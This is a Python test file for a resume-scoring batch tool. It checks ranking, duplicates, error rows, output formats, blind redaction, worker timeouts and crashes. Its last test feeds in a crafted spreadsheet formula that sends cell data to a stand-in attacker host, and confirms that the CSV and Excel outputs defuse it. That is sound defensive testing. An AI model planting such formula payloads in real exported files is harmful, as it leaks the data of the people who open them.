"""Batch scoring: rows, statuses, duplicates, summary, outputs, tables, blind mode, time limits, crashes."""

from __future__ import annotations

import json
import multiprocessing
import os
import shutil
import signal
import time
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from analyzer import batch as B
from analyzer.cli import app
from analyzer.report import validate_report_dict
from conftest import AS_OF, SAMPLES

DAY = AS_OF.isoformat()


@pytest.fixture(scope="module")
def mixed(tmp_path_factory) -> Path:
    """Good resumes in three formats, broken files, duplicates, and files a batch must skip."""
    d = tmp_path_factory.mktemp("inbox")
    for name in ("lead_ai_engineer.pdf", "senior_ai_engineer.docx", "ai_engineer.txt", "off_target_chef.txt",
                 "junior_ml_engineer.txt"):
        shutil.copy(SAMPLES / name, d / name)
    (d / "sub").mkdir()
    shutil.copy(SAMPLES / "ai_engineer.txt", d / "sub" / "copy_of_ai_engineer.txt")  # duplicate content
    shutil.copy(SAMPLES / "lead_ai_engineer.pdf", d / "sub" / "lead_again.pdf")  # duplicate content
    pdf = (SAMPLES / "senior_ai_engineer.pdf").read_bytes()
    (d / "truncated.pdf").write_bytes(pdf[: len(pdf) // 3])  # broken
    (d / "empty.txt").write_bytes(b"")  # broken
    (d / "legacy.doc").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)  # unsupported
    (d / "photo.png").write_bytes(b"\x89PNG\r\n\x1a\n")  # not a resume type: skipped in directories
    (d / ".hidden.txt").write_text("ignored", "utf-8")  # hidden: skipped
    return d


@pytest.fixture(scope="module")
def mixed_results(mixed):
    return list(B.analyze_many([mixed], as_of=DAY, workers=0))


def by_file(df: pd.DataFrame) -> dict[str, dict]:
    return {Path(r["file"]).name: r for r in df.to_dict(orient="records")}


def test_mixed_directory_rows_statuses_and_duplicates(mixed, mixed_results):
    df = B.to_frame(mixed_results)
    assert list(df.columns) == B.columns()
    rows = by_file(df)
    assert set(rows) == {"lead_ai_engineer.pdf", "senior_ai_engineer.docx", "ai_engineer.txt", "off_target_chef.txt",
                         "junior_ml_engineer.txt", "copy_of_ai_engineer.txt", "lead_again.pdf", "truncated.pdf",
                         "empty.txt", "legacy.doc"}
    assert len(df) == 10  # one row per input, png and hidden files skipped
    errors = {n: r["error_kind"] for n, r in rows.items() if r["status"] == "error"}
    assert errors == {"truncated.pdf": errors["truncated.pdf"], "empty.txt": "empty", "legacy.doc": "unsupported"}
    assert errors["truncated.pdf"] in ("corrupt", "unreadable", "empty")
    for n in errors:
        assert rows[n]["error"] and pd.isna(rows[n]["score"]) and pd.isna(rows[n]["rank"])
    # duplicates: analysed once, one row each, the later path in sorted order points to the first
    dup = rows["copy_of_ai_engineer.txt"]
    assert dup["status"] == "ok" and dup["duplicate_of"] == str(mixed / "ai_engineer.txt")
    assert dup["score"] == rows["ai_engineer.txt"]["score"] and dup["sha256"] == rows["ai_engineer.txt"]["sha256"]
    assert pd.isna(rows["ai_engineer.txt"]["duplicate_of"])
    assert rows["lead_again.pdf"]["duplicate_of"] == str(mixed / "lead_ai_engineer.pdf")
    assert sum(r.duplicate for r in mixed_results) == 2
    # real content: the lead persona ranks first, the chef last among the ok rows
    ok = df[df.status == "ok"]
    assert ok.iloc[0]["file"].endswith(("lead_ai_engineer.pdf", "lead_again.pdf"))
    assert ok.iloc[-1]["file"].endswith("off_target_chef.txt")
    lead = rows["lead_ai_engineer.pdf"]
    assert lead["current_level"] == "Lead AI Engineer" and lead["next_level"]
    assert lead["highest_degree"] == "master" and lead["total_years"] > 8 and lead["leadership_years"] > 2
    assert lead["required_met"] > lead["required_missing"] and lead["name"] == "Morgan Quinnell"
    assert lead["role_id"] == "lead_ai_engineer" and lead["as_of"] == DAY and lead["tool_version"]
    assert lead["format"] == "pdf" and lead["pages"] >= 1 and len(lead["sha256"]) == 64
    chef = rows["off_target_chef.txt"]
    assert chef["required_missing"] > chef["required_met"] and chef["top_gaps"].count(B.SEP) == B.TOP_GAPS - 1


def test_ranking_is_sorted_with_deterministic_ties(mixed_results):
    df = B.to_frame(list(reversed(mixed_results)))
    ok = df[df.status == "ok"]
    keys = list(zip(-ok.score, ok.file))
    assert keys == sorted(keys)
    assert list(ok["rank"]) == list(range(1, len(ok) + 1))
    assert (df.status == "error").tolist() == sorted((df.status == "error").tolist())  # errors last
    pd.testing.assert_frame_equal(df, B.to_frame(mixed_results))  # input order does not matter


def test_summary_counts(mixed_results):
    s = B.Summary()
    for r in mixed_results:
        s.add(r)
    assert (s.total, s.ok, s.duplicates) == (10, 7, 2)
    assert s.failed["empty"] == 1 and s.failed["unsupported"] == 1 and sum(s.failed.values()) == 3
    assert s.analysed == 8  # ten inputs, two duplicates
    text = s.format()
    assert "failed 3" in text and "duplicates 2" in text and "resumes/s" in text


def test_cli_outputs_summary_and_resume_from_journal(mixed, tmp_path):
    runner = CliRunner()
    out = tmp_path / "ranked.csv"
    res = runner.invoke(app, ["batch", str(mixed), "--out", str(out), "--as-of", DAY, "--workers", "1", "--verbose"])
    assert res.exit_code == 0, res.output
    assert "done 7" in res.stderr and "failed 3" in res.stderr and "duplicates 2" in res.stderr
    df = pd.read_csv(out)
    assert len(df) == 10 and list(df.columns) == B.columns()
    assert (tmp_path / "ranked.csv.journal.sqlite").exists()
    # the same command again takes everything from the journal and writes the same table
    before = out.read_bytes()
    res = runner.invoke(app, ["batch", str(mixed), "--out", str(out), "--as-of", DAY, "--workers", "1", "--verbose"])
    assert res.exit_code == 0 and "from journal 8" in res.stderr and "analysed 0" in res.stderr
    assert out.read_bytes() == before
    # without a TTY and without --verbose: nothing on stdout or stderr
    res = runner.invoke(app, ["batch", str(mixed), "--out", str(out), "--as-of", DAY, "--workers", "0"])
    assert res.exit_code == 0 and res.stdout == "" and res.stderr == ""


def test_output_formats_and_blind(mixed, tmp_path):
    inputs = [mixed / "lead_ai_engineer.pdf", mixed / "ai_engineer.txt", mixed / "empty.txt"]
    summaries = {}
    for ext in ("parquet", "xlsx", "jsonl"):
        summaries[ext] = B.run_batch(inputs, tmp_path / f"t.{ext}", as_of=DAY, workers=0, blind=(ext != "parquet"))
    pq = pd.read_parquet(tmp_path / "t.parquet")
    assert list(pq.columns) == B.columns() and len(pq) == 3
    assert str(pq["score"].dtype) == "float64" and str(pq["required_met"].dtype) == "Int64"
    xl = pd.read_excel(tmp_path / "t.xlsx")
    assert list(xl.columns) == B.columns(blind=True) and "name" not in xl.columns and len(xl) == 3
    lines = [json.loads(x) for x in (tmp_path / "t.jsonl").read_text("utf-8").splitlines()]
    assert [ln["batch"]["status"] for ln in lines] == ["ok", "ok", "error"]
    for ln in lines[:2]:
        report = {k: v for k, v in ln.items() if k != "batch"}
        validate_report_dict(report)  # the full report, schema-valid once "batch" is taken out
        assert report["score"] == ln["batch"]["score"]
        assert report["profile"]["contact"]["name"] is None and "@" not in report["text"]  # blind: redacted
        assert "name" not in ln["batch"]
    assert set(lines[2]) == {"batch"} and lines[2]["batch"]["error_kind"] == "empty"
    assert summaries["jsonl"].written == 3
    # --top keeps the best rows
    B.run_batch(inputs, tmp_path / "top.csv", as_of=DAY, workers=0, top=1)
    top = pd.read_csv(tmp_path / "top.csv")
    assert len(top) == 1 and top.file[0].endswith("lead_ai_engineer.pdf")
    with pytest.raises(B.UserError, match="unknown output format"):
        B.run_batch(inputs, tmp_path / "t.txt", as_of=DAY, workers=0)


def test_table_inputs_text_and_path_columns(tmp_path):
    texts = {p.stem: p.read_text("utf-8") for p in sorted(SAMPLES.glob("*.txt"))[:3]}
    pd.DataFrame({"id": list(texts), "text": list(texts.values())}).to_csv(tmp_path / "ats.csv", index=False)
    (tmp_path / "cv").mkdir()
    for stem in texts:
        shutil.copy(SAMPLES / f"{stem}.docx", tmp_path / "cv" / f"{stem}.docx")
    paths = [f"cv/{s}.docx" for s in texts] + ["cv/missing.pdf"]
    pd.DataFrame({"path": paths}).to_parquet(tmp_path / "files.parquet")
    items = B.expand_inputs([tmp_path / "ats.csv", tmp_path / "files.parquet"])
    assert len(items) == 7
    df = B.to_frame(B.analyze_many(items, as_of=DAY, workers=0))
    rows = {r["file"]: r for r in df.to_dict(orient="records")}
    for stem in texts:
        assert rows[stem]["status"] == "ok" and rows[stem]["format"] == "text"
        docx = rows[str(tmp_path / "cv" / f"{stem}.docx")]
        assert docx["status"] == "ok" and docx["format"] == "docx"
        assert abs(docx["score"] - rows[stem]["score"]) < 15  # same persona, two formats
    assert rows[str(tmp_path / "cv" / "missing.pdf")]["error_kind"] == "missing"
    pd.DataFrame({"name": ["x"]}).to_csv(tmp_path / "bad.csv", index=False)
    with pytest.raises(B.UserError, match="'text' column"):
        B.expand_inputs([tmp_path / "bad.csv"])


def test_globs_and_explicit_paths_are_not_doubled(tmp_path):
    for p in SAMPLES.glob("*_engineer.txt"):
        shutil.copy(p, tmp_path / p.name)
    items = list(B.expand_inputs([str(tmp_path / "*.txt"), tmp_path / "ai_engineer.txt", tmp_path]))
    assert sorted(Path(i.file).name for i in items) == sorted(p.name for p in SAMPLES.glob("*_engineer.txt"))
    with pytest.raises(B.UserError, match="no file matches"):
        B.expand_inputs([str(tmp_path / "*.nothing")])


def test_time_limit_in_process_gives_timeout_row(tmp_path):
    big = (SAMPLES / "lead_ai_engineer.txt").read_text("utf-8") * 60
    res = list(B.analyze_many([B.TextInput("huge", big), B.TextInput("ok", (SAMPLES / "ai_engineer.txt").read_text("utf-8"))],
                              as_of=DAY, workers=0, timeout=0.05))
    rows = {r.file: r.row for r in res}
    assert rows["huge"]["status"] == "error" and rows["huge"]["error_kind"] == "timeout"
    assert set(rows) == {"huge", "ok"}  # the batch went on after the timeout
    assert "time limit" in rows["huge"]["error"]


def _children_after_first(gen):
    first = next(gen)
    kids = multiprocessing.active_children()
    assert len(kids) == 1
    return first, kids[0]


def test_stuck_worker_is_killed_and_replaced(tmp_path, monkeypatch):
    """A worker that stops answering (here: SIGSTOP) is killed by the watchdog; its file becomes a
    'timeout' row, a fresh worker takes the rest."""
    monkeypatch.setattr(B, "GRACE", 0.5)
    files = []
    for i, p in enumerate(sorted(SAMPLES.glob("*.txt"))[:4]):
        files.append(tmp_path / f"{i}_{p.name}")
        shutil.copy(p, files[-1])
    gen = B.analyze_many(files, as_of=DAY, workers=1, timeout=3)
    first, worker = _children_after_first(gen)
    os.kill(worker.pid, signal.SIGSTOP)
    t0 = time.monotonic()
    rest = list(gen)
    assert time.monotonic() - t0 < 30
    rows = [first.row] + [r.row for r in rest]
    assert sorted(r["file"] for r in rows) == sorted(map(str, files))
    kinds = [r["error_kind"] for r in rows if r["status"] == "error"]
    assert kinds == ["timeout"] and sum(r["status"] == "ok" for r in rows) == 3
    assert not worker.is_alive()


def test_crashed_worker_gives_error_row_and_batch_goes_on(tmp_path):
    files = []
    for i, p in enumerate(sorted(SAMPLES.glob("*.txt"))[:4]):
        files.append(tmp_path / f"{i}_{p.name}")
        shutil.copy(p, files[-1])
    gen = B.analyze_many(files, as_of=DAY, workers=1)
    first, worker = _children_after_first(gen)
    os.kill(worker.pid, signal.SIGKILL)
    rows = [first.row] + [r.row for r in gen]
    assert sorted(r["file"] for r in rows) == sorted(map(str, files))
    errs = [r for r in rows if r["status"] == "error"]
    assert len(errs) == 1 and errs[0]["error_kind"] == "crashed" and "-9" in errs[0]["error"]


def test_recycled_workers_finish_every_file_once(tmp_path, monkeypatch):
    started = []

    class Counting(B._Worker):
        def __init__(self, *a, **k):
            super().__init__(*a, **k)
            started.append(self.proc.pid)

    monkeypatch.setattr(B, "_Worker", Counting)
    files = []
    for i, p in enumerate(sorted(SAMPLES.glob("*.txt"))[:5]):
        files.append(tmp_path / f"{i}_{p.name}")
        shutil.copy(p, files[-1])
    rows = [r.row for r in B.analyze_many(files, as_of=DAY, workers=1, max_tasks_per_worker=2)]
    assert sorted(r["file"] for r in rows) == sorted(map(str, files))
    assert all(r["status"] == "ok" for r in rows)
    assert len(started) == 3  # 2 + 2 + 1 files


def test_spreadsheet_outputs_never_carry_a_formula(tmp_path):
    """Crafted values (an applicant-tracking export's id, a headline) must not run as formulas when a
    recruiter opens the table; Parquet keeps the values as they are."""
    evil_id = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    text = (SAMPLES / "ai_engineer.txt").read_text("utf-8").splitlines()
    text[1] = "+AI Engineer · NLP · MLOps on AWS"  # the headline (its first field is the current title when no job names one)
    text = [l.replace("AI Engineer | Copperleaf", "Copperleaf") for l in text]
    ats = pd.DataFrame({"id": [evil_id, "@plain"], "text": ["\n".join(text),
                                                            (SAMPLES / "junior_ml_engineer.txt").read_text("utf-8")]})
    ats.to_csv(tmp_path / "ats.csv", index=False)
    for ext in ("csv", "xlsx", "parquet"):
        B.run_batch([tmp_path / "ats.csv"], tmp_path / f"t.{ext}", as_of=DAY, workers=0)
    csv = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)
    cells = [v for row in csv.itertuples(index=False) for v in row]
    assert not any(v.startswith(("=", "+", "-", "@")) for v in cells), cells
    assert set(csv.file) == {"'" + evil_id, "'@plain"}
    assert "'+AI Engineer" in set(csv.current_title), set(csv.current_title)  # the headline's first field
    from openpyxl import load_workbook

    ws = load_workbook(tmp_path / "t.xlsx").active
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)  # no formula cell
    assert set(pd.read_parquet(tmp_path / "t.parquet").file) == {evil_id, "@plain"}
